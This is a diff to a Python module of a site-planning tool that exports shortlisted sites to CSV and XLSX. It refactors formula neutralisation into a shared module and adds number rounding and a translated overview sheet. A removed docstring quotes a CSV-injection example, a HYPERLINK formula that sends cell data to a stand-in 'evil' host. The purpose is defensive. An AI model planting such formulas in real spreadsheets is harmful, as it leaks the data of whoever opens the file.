@@ -1,12 +1,8 @@
 """CSV and XLSX exports of the shortlisted sites, safe to open in a spreadsheet.
 
-A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
-formula (and tab or carriage return can smuggle one in), so a site name such as
-``=HYPERLINK("http://evil/?"&A1)`` could leak data or run commands when a
-planner opens the file (CSV injection, OWASP). :func:`neutralise` puts an
-apostrophe before such text, which spreadsheets show as plain text; numbers are
-written as numbers and never touched. XLSX text cells are also typed as strings,
-never formulas.
+The cells are written by :mod:`gisplan.export.spreadsheet`, which neutralises
+text a spreadsheet would run as a formula (CSV injection) and types XLSX text
+cells as strings.
 
 Three CSV variants:
 
@@ -20,7 +16,6 @@ Three CSV variants:
 
 from __future__ import annotations
 
-import csv
 import datetime as dt
 import math
 import uuid
@@ -33,12 +28,11 @@ import pandas as pd
 from gisplan.errors import InputError
 from gisplan.export._dictionary import data_dictionary, sources_frame
 from gisplan.export._gpkg import check_out, metadata
+from gisplan.export.spreadsheet import FORMULA_TRIGGERS, neutralise, write_table_csv, write_tables_xlsx
 
 if TYPE_CHECKING:
     from gisplan.export._snapshot import ExportSnapshot
 
-#: First characters that make a spreadsheet read text as a formula.
-FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 CSV_VARIANTS = ("gisplan", "uk-blr", "cz-brownfields")
 #: Columns of the UK Brownfield Land Register CSV (digital-land harmonised), in the registers' order.
 UK_BLR_COLUMNS = (
@@ -93,37 +87,6 @@ _UK_OWNERSHIP = {
     "private": "not owned by a public authority",
     "mixed": "mixed ownership",
 }
-_XLSX_ILLEGAL = str.maketrans({c: None for c in range(32) if chr(c) not in "\t\n\r"})
-
-
-def neutralise(value: object) -> object:
-    """``value`` with text that a spreadsheet would run as a formula made inert.
-
-    Text starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a
-    leading apostrophe; every other value is returned unchanged.
-    """
-    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
-        return "'" + value
-    return value
-
-
-def _cell(value: object) -> object:
-    """A spreadsheet cell: None for missing, ISO text for date-times (UTC), neutralised text."""
-    if value is None or value is pd.NaT or (isinstance(value, float) and math.isnan(value)):
-        return None
-    if value is pd.NA:
-        return None
-    if isinstance(value, pd.Timestamp):
-        value = value.to_pydatetime()
-    if isinstance(value, dt.datetime):
-        if value.tzinfo is not None:
-            value = value.astimezone(dt.UTC).replace(tzinfo=None)
-        return value.isoformat(sep=" ", timespec="seconds")
-    if isinstance(value, dt.date):
-        return value.isoformat()
-    if hasattr(value, "item"):  # numpy scalars
-        value = value.item()
-    return neutralise(value)
 
 
 def _points(snapshot: ExportSnapshot) -> tuple[pd.DataFrame, pd.DataFrame]:
@@ -279,51 +242,68 @@ def write_csv(snapshot: ExportSnapshot, path: Path | str, *, variant: str = "gis
     table = _VARIANTS[variant](snapshot)
 
     def write(temp: Path) -> None:
-        with temp.open("w", encoding="utf-8-sig", newline="") as fh:
-            out = csv.writer(fh, quoting=csv.QUOTE_MINIMAL)
-            out.writerow([str(c) for c in table.columns])
-            for values in table.itertuples(index=False, name=None):
-                out.writerow(["" if (c := _cell(v)) is None else c for v in values])
+        write_table_csv(table, temp)
 
     return _replace(target, write)
 
 
-def _sheet(book: Any, title: str, table: pd.DataFrame) -> None:
-    """One sheet, streamed (openpyxl's write-only mode): text cells typed as strings, never formulas."""
-    from openpyxl.cell import WriteOnlyCell
-    from openpyxl.utils import get_column_letter
-
-    sheet = book.create_sheet(title=title[:31])
-    sheet.freeze_panes = "A2"
-    for col, name in enumerate(table.columns, start=1):
-        sheet.column_dimensions[get_column_letter(col)].width = min(max(len(str(name)) + 2, 10), 40)
-    sheet.append([str(c) for c in table.columns])
-    for values in table.itertuples(index=False, name=None):
-        row: list[Any] = []
-        for value in values:
-            shown = _cell(value)
-            if isinstance(shown, str):
-                cell = WriteOnlyCell(sheet, value=shown.translate(_XLSX_ILLEGAL))
-                cell.data_type = "s"  # a string, whatever it starts with
-                row.append(cell)
-            else:
-                row.append(shown)
-        sheet.append(row)
+#: Decimals of the numbers in the XLSX sites sheet (the unit is in each column's name and the data dictionary).
+XLSX_DECIMALS: dict[str, int] = {
+    "area_m2": 0,
+    "area_ha": 2,
+    "score": 1,
+    "completeness": 2,
+    "capacity_kwp": 0,
+    "yield_kwh_kwp_yr": 1,
+    "energy_mwh_yr": 1,
+    "co2_t_yr": 1,
+    "households": 0,
+    "x": 2,
+    "y": 2,
+    "longitude": 6,
+    "latitude": 6,
+}
+_PREFIX_DECIMALS = {"pts_": 1, "val_": 2}
 
 
-def write_xlsx(snapshot: ExportSnapshot, path: Path | str) -> Path:
-    """Write the sites and their related tables as an XLSX workbook; return the path.
+def rounded(table: pd.DataFrame) -> pd.DataFrame:
+    """The sites table with every number rounded to a precision fit to print (:data:`XLSX_DECIMALS`)."""
+    out = table.copy()
+    for column in out.columns:
+        name = str(column)
+        digits = XLSX_DECIMALS.get(name)
+        if digits is None:
+            digits = next((d for prefix, d in _PREFIX_DECIMALS.items() if name.startswith(prefix)), None)
+        if digits is None:
+            continue
+        values = pd.to_numeric(out[column], errors="coerce")
+        if values.notna().sum() == out[column].notna().sum():  # only numbers: round them, leave text alone
+            out[column] = values.round(digits)
+    return out
 
-    Sheets: ``sites``, ``annotations``, ``community_links``, ``funding_links``,
-    ``communities``, ``funding_calls``, ``data_dictionary``, ``data_sources`` and
-    ``metadata``.
+
+def write_xlsx(snapshot: ExportSnapshot, path: Path | str, *, lang: str | None = None) -> Path:
+    """Write the sites and their related tables as an XLSX workbook, best first; return the path.
+
+    The first sheet is the overview in ``lang`` (default the ``GISPLAN_LANG``
+    setting): names or addresses, translated kinds and statuses, rounded figures
+    with units (:func:`gisplan.export._overview.overview_table`). The data sheets
+    keep codes for reuse; numbers in the sites sheet are rounded (:func:`rounded`);
+    the CSV keeps them whole.
+
+    Sheets: the overview (``Přehled``, ``Overview``…), ``sites``, ``annotations``,
+    ``community_links``, ``funding_links``, ``communities``, ``funding_calls``,
+    ``data_dictionary``, ``data_sources`` and ``metadata``.
     """
-    from openpyxl import Workbook
+    from gisplan import settings
+    from gisplan.export._overview import overview_table, sheet_title
 
     target = check_out(Path(path), (".xlsx",))
+    lang = lang or settings.get().language
     meta: Mapping[str, str] = metadata(snapshot)
     sheets = {
-        "sites": sites_table(snapshot),
+        sheet_title(lang): overview_table(snapshot, lang),
+        "sites": rounded(sites_table(snapshot)),
         "annotations": snapshot.annotations,
         "community_links": snapshot.community_links,
         "funding_links": snapshot.funding_links,
@@ -335,10 +315,7 @@ def write_xlsx(snapshot: ExportSnapshot, path: Path | str) -> Path:
     }
 
     def write(temp: Path) -> None:
-        book = Workbook(write_only=True)
-        for title, table in sheets.items():
-            _sheet(book, title, table)
-        book.save(temp)
+        write_tables_xlsx(sheets, temp)
 
     return _replace(target, write)
 
